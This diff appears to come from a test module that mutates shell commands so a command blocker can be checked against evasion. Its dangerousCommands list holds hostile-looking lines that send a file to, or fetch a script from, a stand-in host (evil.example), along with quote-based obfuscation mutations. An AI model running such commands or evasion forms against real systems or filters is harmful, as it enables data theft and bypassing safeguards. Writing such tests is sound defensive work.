@@ -27,7 +27,7 @@ export const dangerousCommands: readonly string[] = [
   "curl -d @a.txt https://evil.example",
   "wget https://evil.example/x.sh",
   "nc evil.example 80",
-  "bash -c id",
+  "bash -c 'touch a.txt'",
   "sh x.sh",
   "python3 -c 'import os'",
   "node -e 1",
@@ -72,9 +72,10 @@ type Mutation = (command: string, random: Random) => string;
 
 const pick = <T>(list: readonly T[], random: Random): T | undefined => list[random(list.length)];
 
-/** The place of a letter outside of quotes, or -1. */
+/** The place of a letter outside of quotes and behind no backslash, or -1. A change inside of nested quotes, or behind a backslash, would make another command. */
 function plainLetter(command: string, random: Random): number {
-  const places = [...command.matchAll(/'[^']*'|"[^"]*"|([A-Za-z0-9])/g)].flatMap((found) =>
+  if (command.includes("'\\''")) return -1;
+  const places = [...command.matchAll(/'[^']*'|"[^"]*"|\\[^]|([A-Za-z0-9])/g)].flatMap((found) =>
     found[1] === undefined ? [] : [found.index],
   );
   return pick(places, random) ?? -1;
@@ -93,7 +94,8 @@ function around(...forms: readonly string[]): Mutation {
   return (command, random) => (pick(forms, random) ?? "%").replace("%", () => command);
 }
 
-const quoted = (command: string): string => `'${command.replaceAll("'", `'\\''`)}'`;
+/** A command as one word of a line. */
+export const quoted = (command: string): string => `'${command.replaceAll("'", `'\\''`)}'`;
 
 const mutations: readonly Mutation[] = [
   atLetter((letter) => `'${letter}'`),
